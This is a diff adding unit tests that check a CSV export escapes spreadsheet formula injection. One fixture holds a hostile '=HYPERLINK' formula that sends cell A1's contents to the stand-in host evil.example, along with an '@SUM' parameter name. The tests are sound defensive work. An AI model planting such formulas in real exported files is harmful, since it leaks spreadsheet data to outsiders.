@@ -41,3 +41,19 @@ describe('sweepCsv', () => {
     expect(row.split(',').length).toBeGreaterThanOrEqual(14);
   });
 });
+
+describe('sweepCsv on a shared sweep (text a stranger wrote)', () => {
+  it('defuses an error message or parameter name a spreadsheet would run as a formula', () => {
+    const hostile: SweepPoint[] = [
+      { ...points[1]!, local: { status: 'error', message: '=HYPERLINK("http://evil.example/?"&A1,"ok")' } },
+    ];
+    const [header, row] = sweepCsv(hostile, '@SUM(A1:A9)').split('\r\n');
+    expect(header!.startsWith("'@SUM(A1:A9),")).toBe(true);
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
+  });
+
+  it('leaves numbers, negative ones included, as numbers', () => {
+    const negative: SweepPoint[] = [{ ...points[1]!, value: -4 }];
+    expect(sweepCsv(negative, 'N').split('\r\n')[1]!.startsWith('-4,')).toBe(true);
+  });
+});
